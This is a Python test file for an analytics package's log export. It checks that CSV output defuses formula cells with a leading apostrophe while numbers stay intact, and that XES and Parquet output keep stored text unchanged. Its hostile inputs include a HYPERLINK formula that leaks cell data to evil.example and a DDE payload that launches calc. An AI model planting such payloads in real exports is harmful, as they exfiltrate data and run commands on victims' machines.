"""CSV exports make formula cells inert (a leading apostrophe); plain numbers stay numbers; XES and Parquet keep the
stored text as it is."""

from __future__ import annotations

import csv
from pathlib import Path

import polars as pl
from lxml import etree
from sqlalchemy.orm import Session

from momentos.analytics.export import export_log
from tests.conftest import OrgHandle
from tests.factories import event, make_service, send

HOSTILE = {"link": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "sum": "+SUM(A1:A9)", "calc": "-1+1",
           "cmd": "@cmd|' /C calc'!A0", "tab": "\t=1+1", "cr": "\r=1+1", "wide": "\uff1d1+1"}
NUMBERS = {"negative": "-5", "decimal": "-7.25", "signed": "+3", "exponent": "-1e-3"}
PLAIN = {"note": "a - b = c", "empty_sign": "-"}


def _exported(db: Session, org: OrgHandle, tmp_path: Path, fmt: str) -> Path:
    make_service(db, org.id)
    send(db, org.id, event("ana", "order_placed", 0, service="shop",
                           properties={**HOSTILE, **NUMBERS, **PLAIN, "count": -4}))
    out = tmp_path / f"log.{fmt}"
    export_log(db, org.id, out, fmt)  # type: ignore[arg-type]
    return out


def test_csv_export_neutralises_formula_cells_and_keeps_numbers(db: Session, org: OrgHandle, tmp_path: Path) -> None:
    with _exported(db, org, tmp_path, "csv").open(encoding="utf-8", newline="") as handle:
        [row] = list(csv.DictReader(handle))
    for key, value in HOSTILE.items():
        assert row[key] == "'" + value, key
    for key, value in NUMBERS.items():
        assert row[key] == value, key
    assert row["count"] == "-4" and row["note"] == "a - b = c" and row["empty_sign"] == "'-"
    assert row["concept:name"] == "order_placed" and row["customer"] == "ana"


def test_xes_and_parquet_exports_keep_the_stored_text(db: Session, org: OrgHandle, tmp_path: Path) -> None:
    xes = _exported(db, org, tmp_path, "xes")
    ns = "{http://www.xes-standard.org/}"
    root = etree.parse(str(xes)).getroot()
    values = {a.get("key"): a.get("value") for a in root.iter(f"{ns}string")}
    assert all(values[key] == value for key, value in HOSTILE.items())
    export_log(db, org.id, tmp_path / "log.parquet", "parquet")
    [row] = pl.read_parquet(tmp_path / "log.parquet").to_dicts()
    assert all(row[key] == value for key, value in HOSTILE.items())
